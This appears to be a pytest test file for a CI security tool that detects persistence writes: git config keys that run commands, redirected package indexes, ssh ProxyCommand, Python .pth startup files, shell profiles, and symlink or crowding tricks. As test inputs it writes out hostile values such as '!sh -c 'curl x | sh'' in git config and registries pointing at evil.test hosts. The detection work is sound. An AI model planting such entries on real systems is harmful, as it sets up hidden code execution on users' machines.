"""Persistence places: what counts as a write that runs later, and reading them safely."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from cujo_action.limits import PERSISTENCE_TEXT
from cujo_action.sandbox.boundary import fingerprints, folders_holding, matching, read_below
from cujo_action.schema import GIT_HOOK_WRITE, PYTHON_STARTUP_WRITE, SHELL_PROFILE_WRITE
from cujo_action.watch import persistence_scan
from cujo_action.watch.persistence import (
    Entry,
    Place,
    changes,
    git_config_runs,
    index_redirect,
    owner,
    places,
    ssh_commands,
)
from cujo_action.watch.persistence_scan import Scan, scan, venv_places

PLACES = places("work/app/app")


def git_written(tmp_path: Path, *settings: tuple[str, str]) -> str:
    """Return a config file as git itself writes it (the oracle for the parser)."""
    config = tmp_path / "config"
    config.unlink(missing_ok=True)
    for key, value in settings:
        subprocess.run(["git", "config", "-f", str(config), key, value], check=True)
    return config.read_text()


@pytest.mark.parametrize(
    "key",
    [
        "core.hooksPath",
        "core.fsmonitor",
        "core.sshCommand",
        "core.pager",
        "alias.st",
        "filter.lfs.smudge",
        "diff.tool.textconv",
        "credential.https://github.com.helper",
        "includeIf.gitdir:~/work/.path",
        "gpg.ssh.program",
    ],
)
def test_a_git_config_gaining_a_key_git_runs_counts(tmp_path: Path, key: str) -> None:
    before = git_written(tmp_path, ("user.name", "ci"))
    after = git_written(tmp_path, ("user.name", "ci"), (key, "!sh -c 'curl x | sh'"))
    why = git_config_runs(before, after)
    assert why is not None, (key, after)
    assert key.rsplit(".", maxsplit=1)[-1].lower() in why.lower()


def test_a_git_config_gaining_only_data_does_not_count(tmp_path: Path) -> None:
    before = git_written(tmp_path, ("core.hooksPath", "/usr/share/hooks"))
    after = git_written(
        tmp_path,
        ("core.hooksPath", "/usr/share/hooks"),
        ("user.email", "t@example.test"),
        ("init.defaultBranch", "main"),
        ("remote.upstream.url", "https://github.com/o/r"),
    )
    assert git_config_runs(before, after) is None  # the hooksPath was there already
    assert git_config_runs(None, git_written(tmp_path, ("user.name", "x"))) is None
    changed = git_written(tmp_path, ("core.hooksPath", "/home/runner/.h"))
    assert git_config_runs(before, changed) == "gained core.hookspath = /home/runner/.h"


def test_package_index_configs_are_read_as_their_tools_read_them() -> None:
    pip = "[global]\nextra-index-url =\n    https://pypi.org/simple\n    https://pypi.evil.test/s\n"
    assert index_redirect(None, pip) == "now points at pypi.evil.test"
    assert index_redirect(None, "[global]\nindex-url = https://pypi.org/simple\n") is None
    yarn = 'npmRegistryServer: "https://yarn.evil.test"\n'
    assert index_redirect(None, yarn) == "now points at yarn.evil.test"
    uv = '[[index]]\nname = "corp"\nurl = "https://uv.evil.test/simple"\n'
    assert index_redirect(None, uv) == "now points at uv.evil.test"
    npmrc = "@myorg:registry=https://npm.pkg.github.com/\n"
    assert index_redirect(npmrc, npmrc + "registry=https://registry.npmjs.org/\n") is None
    assert index_redirect(npmrc, npmrc + "@x:registry=https://x.evil.test\n") == (
        "now points at x.evil.test"
    )


def test_an_ssh_config_gaining_a_command_counts() -> None:
    assert ssh_commands("Host *\n", "Host *\n  ProxyCommand nc %h %p\n") == "gained proxycommand"


def test_each_path_belongs_to_its_most_specific_place() -> None:
    assert owner("~/.bashrc", PLACES).kind == SHELL_PROFILE_WRITE  # type: ignore[union-attr]
    site = "~/.local/lib/python3.12/site-packages"
    assert owner(f"{site}/x.pth", PLACES).kind == PYTHON_STARTUP_WRITE  # type: ignore[union-attr]
    assert owner(f"{site}/pkg/x.pth", PLACES) is None  # a package's own file
    assert owner(f"{site}/x.py", PLACES) is None
    hook = owner("~/work/app/app/.git/hooks/pre-commit", PLACES)
    assert hook is not None
    assert hook.kind == GIT_HOOK_WRITE
    assert owner("~/.cache/pip/x", PLACES) is None


def test_changes_report_creations_deletions_and_judged_changes_in_path_order() -> None:
    before = {"~/.bashrc": Entry("a"), "~/.gitconfig": Entry("g1", "[user]\n\tname = a\n")}
    after = {
        "~/.bashrc": Entry("b"),
        "~/.gitconfig": Entry("g2", "[user]\n\tname = b\n"),
        "~/.zshrc": Entry("z"),
    }
    found = changes(before, after, PLACES)
    assert [(c.kind, c.detail) for c in found] == [
        (SHELL_PROFILE_WRITE, "~/.bashrc was changed"),
        (SHELL_PROFILE_WRITE, "~/.zshrc was created"),
    ]
    assert changes(after, {}, PLACES)[0].detail == "~/.bashrc was deleted"


# --------------------------------------------------------------------------- reading safely


def test_reading_a_place_follows_no_planted_link_and_reads_no_fifo(tmp_path: Path) -> None:
    # After pull-request code ran, root reads these files' text: a link planted in their
    # place, or anywhere on the way, must never lead it to another file.
    secret = tmp_path / "root-only"
    secret.write_text("root's secret\n")
    home = tmp_path / "home"
    (home / ".config" / "pip").mkdir(parents=True)
    (home / ".gitconfig").symlink_to(secret)
    assert read_below(home, ".gitconfig", 1024) is None
    (home / ".config" / "git").symlink_to(tmp_path)
    assert read_below(home, ".config/git/root-only", 1024) is None
    os.mkfifo(home / ".npmrc")  # would block a plain open for ever
    assert read_below(home, ".npmrc", 1024) is None
    (home / ".config" / "pip" / "pip.conf").write_text("[global]\n" + "x" * 5000)
    assert read_below(home, ".config/pip/pip.conf", 100) == b"[global]\n" + b"x" * 91
    with pytest.raises(ValueError, match="relative"):
        read_below(home, "../root-only", 1024)


def test_fingerprints_go_only_as_deep_as_asked(tmp_path: Path) -> None:
    site = tmp_path / "lib" / "python3.12" / "site-packages"
    (site / "pkg").mkdir(parents=True)
    (site / "a.pth").write_text("import x\n")
    (site / "pkg" / "mod.py").write_text("x = 1\n")
    (site / "link").symlink_to(tmp_path)
    shallow = fingerprints(tmp_path, ["lib"], depth=2)
    assert set(shallow) == {
        "lib/python3.12/site-packages/a.pth",
        "lib/python3.12/site-packages/link",
    }
    assert "lib/python3.12/site-packages/pkg/mod.py" in fingerprints(tmp_path, ["lib"])


# --------------------------------------------------------------------------- the snapshot


def snap(home: Path, found_in: list[Place] = PLACES) -> Scan:
    """Return the places of ``home`` as read (the host's own left out)."""
    read = scan(home, found_in)
    read.entries = {k: v for k, v in read.entries.items() if k.startswith("~/")}
    return read


def site(home: Path, root: str = ".local/lib") -> Path:
    folder = home / root / "python3.12" / "site-packages"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


def test_a_pth_written_after_thousands_of_junk_files_is_still_seen(tmp_path: Path) -> None:
    # The crowding attack: junk beside the user site (and inside it) used to fill the
    # snapshot's entry limit before it reached site-packages/*.pth.
    home = tmp_path / "home"
    user_site = site(home)
    junk = home / ".local" / "lib" / "aaa"
    junk.mkdir()
    for n in range(2_500):
        (junk / f"{n:05}").write_text("x")
        (user_site / f"a{n:05}.py").write_text("x")
    before = snap(home)
    (user_site / "zz_telemetry.pth").write_text("import os\n")
    after = snap(home)
    assert before.cuts == after.cuts == []
    found = changes(before.entries, after.entries, PLACES)
    assert [(c.kind, c.path) for c in found] == [
        (PYTHON_STARTUP_WRITE, "~/.local/lib/python3.12/site-packages/zz_telemetry.pth")
    ]
    # Only what runs later is fingerprinted: the junk is listed, never printed.
    assert len(after.entries) == 1


def test_a_link_planted_where_the_listing_goes_is_not_followed(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".local" / "lib").mkdir(parents=True)
    elsewhere = tmp_path / "elsewhere" / "site-packages"
    elsewhere.mkdir(parents=True)
    (elsewhere / "evil.pth").write_text("import os\n")
    before = snap(home)
    (home / ".local" / "lib" / "python3.12").symlink_to(elsewhere.parent)
    after = snap(home)
    # The link itself is the change (Python would follow it); nothing behind it is read.
    assert list(after.entries) == ["~/.local/lib/python3.12"]
    found = changes(before.entries, after.entries, PLACES)
    assert [(c.kind, c.path) for c in found] == [(PYTHON_STARTUP_WRITE, "~/.local/lib/python3.12")]
    assert matching(home, ".local/lib", ["python*/site-packages/*.pth"]) == {
        ".local/lib/python3.12": after.entries["~/.local/lib/python3.12"].print
    }


def test_the_venvs_startup_files_count_unless_an_install_recorded_them(tmp_path: Path) -> None:
    home = tmp_path / "home"
    venv_site = site(home, "work/venv/lib")
    before = snap(home)
    dist = venv_site / "setuptools-80.0.dist-info"
    dist.mkdir()
    (venv_site / "distutils-precedence.pth").write_text("import os\n")
    (dist / "RECORD").write_text("distutils-precedence.pth,sha256=x,10\nsetuptools/__init__.py,,\n")
    (venv_site / "__editable__.calc-0.1.pth").write_text("/home/runner/work/app/app\n")
    (dist / "RECORD").write_text((dist / "RECORD").read_text() + "__editable__.calc-0.1.pth,,\n")
    assert changes(before.entries, snap(home).entries, PLACES) == []
    # setup.py develop's easy-install.pth only adds a folder to sys.path.
    (venv_site / "easy-install.pth").write_text("/home/runner/work/app/app\n")
    assert changes(before.entries, snap(home).entries, PLACES) == []
    (venv_site / "sitecustomize.py").write_text("import os\n")
    with (venv_site / "easy-install.pth").open("a") as pth:
        pth.write("import os; os.system('true')\n")
    found = changes(before.entries, snap(home).entries, PLACES)
    assert [c.path for c in found] == [
        "~/work/venv/lib/python3.12/site-packages/easy-install.pth",
        "~/work/venv/lib/python3.12/site-packages/sitecustomize.py",
    ]


def test_venvs_found_before_the_commands_are_watched_and_new_ones_are_not(
    tmp_path: Path,
) -> None:
    home = tmp_path / "home"
    tox = home / "work/app/app/.tox/py312"
    tox_site = site(home, "work/app/app/.tox/py312/lib")
    (tox / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (home / "deep/a/b/c").mkdir(parents=True)
    (home / "deep/a/b/c/pyvenv.cfg").write_text("")  # deeper than anything runs it from
    found, cut = venv_places(home, "work/app/app", ["work/venv"])
    assert [p.paths for p in found] == [("work/app/app/.tox/py312/lib",)]
    assert cut.cuts == []
    before = snap(home, [*PLACES, *found])
    (tox_site / "_virtualenv_hook.pth").write_text("import os\n")
    new = home / ".venv"
    (new / "lib/python3.12/site-packages").mkdir(parents=True)
    (new / "pyvenv.cfg").write_text("")
    (new / "lib/python3.12/site-packages/x.pth").write_text("import os\n")
    after = snap(home, [*PLACES, *found])
    assert [c.path for c in changes(before.entries, after.entries, [*PLACES, *found])] == [
        "~/work/app/app/.tox/py312/lib/python3.12/site-packages/_virtualenv_hook.pth"
    ]


def test_the_venv_search_is_bounded_and_says_when_it_stopped(tmp_path: Path) -> None:
    home = tmp_path / "home"
    for n in range(30):
        (home / f"d{n:02}" / "x").mkdir(parents=True)
    (home / "zz" / "v").mkdir(parents=True)
    (home / "zz" / "v" / "pyvenv.cfg").write_text("")
    (home / "link").symlink_to(home / "zz")
    assert folders_holding(home, "", "pyvenv.cfg", 2, 1_000) == (["zz/v"], 0)
    found, left = folders_holding(home, "", "pyvenv.cfg", 2, 10)
    assert found == []
    assert left > 0


def test_limits_reached_while_reading_places_are_cuts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    hooks = home / ".git-templates" / "hooks"
    hooks.mkdir(parents=True)
    for n in range(20):
        (hooks / f"h{n}").write_text("x")
    monkeypatch.setattr(persistence_scan, "PERSISTENCE_WALK", 5)
    assert [c.limit for c in snap(home).cuts] == ["persistence-walk"]
    monkeypatch.setattr(persistence_scan, "PERSISTENCE_WALK", 50)
    (home / ".gitconfig").write_text("[user]\n" + "#" * PERSISTENCE_TEXT + "\n")
    cuts = snap(home).cuts
    assert [(c.limit, c.detail) for c in cuts] == [
        ("persistence-text", f"~/.gitconfig judged by its first {PERSISTENCE_TEXT} bytes")
    ]
